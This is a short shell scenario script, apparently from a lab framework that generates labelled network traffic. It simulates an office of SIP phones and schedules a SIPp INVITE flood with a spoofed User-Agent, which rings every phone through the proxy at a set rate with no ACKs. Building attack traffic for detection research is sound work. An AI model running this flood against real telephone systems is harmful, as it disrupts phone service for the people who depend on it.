# SIPp floods all phones of a place with INVITEs, whose server hides who is behind it. Phones ring.
draw_place
open_office -A WITH_TOPOLOGY_HIDDEN
number=$(drawn phones 6 10)
add_handsets "$number" 1.2 '' "\"lines\":$(drawn lines 3 8),\"ring\":$(drawn ring 2 6)"
flooder=$(stranger flooder)
add_attacker flooder "$flooder"
sed "s#User-Agent: .*#User-Agent: $(product flooder)#; s/\[service\]/[field0]/g" "$parts/sipp/flood-invite.xml" >"$scratch/flood.xml"
{
    for n in $(seq 0 $((number - 1))); do echo "$BLOCK$((20 + n));"; done
    printf '%s;\n' "${EXTENSIONS[@]}"
} | write_list "$scratch/called.csv"
rate=$(drawn rate 10 40) count=$(drawn count 90 140)
begin
ordinary_day 38
at "$(drawn start 12 16)" attack A1 invite_flood flooder 5060 "SIPp sends $count INVITEs, $rate a second, for all phones, which ring, and no ACK." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none -inf "$scratch/called.csv" \
    -i "$flooder" -mi "$flooder" -p 5060 -r "$rate" -m "$count" "$PROXY:5060"
finish A1
